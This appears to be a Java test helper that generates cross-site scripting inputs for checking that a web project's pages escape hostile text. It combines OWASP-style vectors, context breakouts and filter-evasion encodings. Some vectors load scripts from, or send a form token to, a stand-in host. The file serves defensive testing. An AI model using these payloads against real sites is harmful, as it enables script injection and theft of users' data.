package org.vigie.web.pages;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;
import org.vigie.text.safe.SafeText;

/**
 * Texts that would be active in a page that printed them as they are: vectors × ways out of the
 * place they stand in × ways to write them (after OWASP's Cross-Site Scripting Filter Evasion Cheat
 * Sheet).
 */
final class HostileTexts {
  private static final List<String> VECTORS =
      List.of(
          "<script>x()</script>",
          "<script src=//canary.example.org/x.js></script>",
          "<img src=x onerror=x()>",
          "<img src=//canary.example.org/pixel.gif>",
          "<svg onload=x()>",
          "<svg><script href=data:,x() />",
          "<svg><animate onbegin=x() attributeName=x dur=1s>",
          "<iframe src=javascript:x()></iframe>",
          "<iframe srcdoc='<script>x()</script>'></iframe>",
          "<a href=javascript:x()>here</a>",
          "<a href=//canary.example.org/ ping=//canary.example.org/>here</a>",
          "<body onload=x()>",
          "<details open ontoggle=x()>",
          "<style>@import '//canary.example.org/x.css';</style>",
          "<p style=background:url(//canary.example.org/x)>",
          "<link rel=stylesheet href=//canary.example.org/x.css>",
          "<meta http-equiv=refresh content=0;url=//canary.example.org/>",
          "<base href=//canary.example.org/>",
          "<form action=//canary.example.org/><input name=form-token></form>",
          "<object data=javascript:x()></object>",
          "<embed src=javascript:x()>",
          "<video><source onerror=x()></video>",
          "<input autofocus onfocus=x()>",
          "<math><mtext><table><mglyph><style><img src onerror=x()>",
          "<noscript><p title='</noscript><img src onerror=x()>'>",
          "<template><img src onerror=x()></template>",
          "<plaintext>",
          "<!--<img src='--><img src onerror=x()//'>");

  private static final List<String> WAYS_OUT =
      List.of(
          "",
          "\">",
          "'>",
          "\" onmouseover=\"x()\" data-x=\"",
          "' onfocus='x()' autofocus data-x='",
          "</title>",
          "</textarea>",
          "</style></script>",
          "-->",
          "</bdi></mark></div>",
          "</option></select>",
          "${x} @if(true) @`",
          "javascript:x()//",
          "]]>");

  private static final List<UnaryOperator<String>> WRITINGS =
      List.of(
          text -> text,
          text -> text.toUpperCase(Locale.ROOT),
          text -> text.replace("script", "sCrIpT").replace("on", "oN").replace("img", "iMg"),
          text -> text.replace(" ", "/"),
          text -> text.replace(" ", "\f"),
          text -> text.replace(" ", "\t").replace("=", "\n="),
          text -> text.replace("<", "&lt;").replace("\"", "&#34;"),
          text -> text.replace("<", "%3C").replace(">", "%3E"),
          text -> text.replace("<", "<\u0000").replace("script", "scr\u200bipt") + "\u202e");

  private HostileTexts() {}

  static List<String> all() {
    Set<String> texts = new LinkedHashSet<>();
    for (String vector : VECTORS) {
      for (String out : WAYS_OUT) {
        for (UnaryOperator<String> writing : WRITINGS) {
          texts.add(writing.apply(out + vector));
        }
      }
    }
    return List.copyOf(new ArrayList<>(texts));
  }

  /**
   * Returns those that are held against harmless twins page by page: each vector with each way out,
   * and each of both in every writing, or with {@code -Dvigie.hostile=all}, as {@code .ci/run} sets
   * it, all of them.
   */
  static List<String> chosen() {
    return System.getProperty("vigie.hostile", "").equals("all") ? all() : paired();
  }

  static List<String> paired() {
    Set<String> texts = new LinkedHashSet<>();
    for (int vector = 0; vector < VECTORS.size(); vector++) {
      for (int out = 0; out < WAYS_OUT.size(); out++) {
        String text = WAYS_OUT.get(out) + VECTORS.get(vector);
        texts.add(WRITINGS.get((vector + out) % WRITINGS.size()).apply(text));
      }
    }
    return List.copyOf(texts);
  }

  /** Returns a harmless text of the same shape: the same spaces and hidden characters. */
  static String harmless(String text) {
    StringBuilder twin = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      twin.append(SafeText.isVisible(c) && !Character.isWhitespace(c) ? 'x' : c);
    }
    return twin.toString();
  }
}
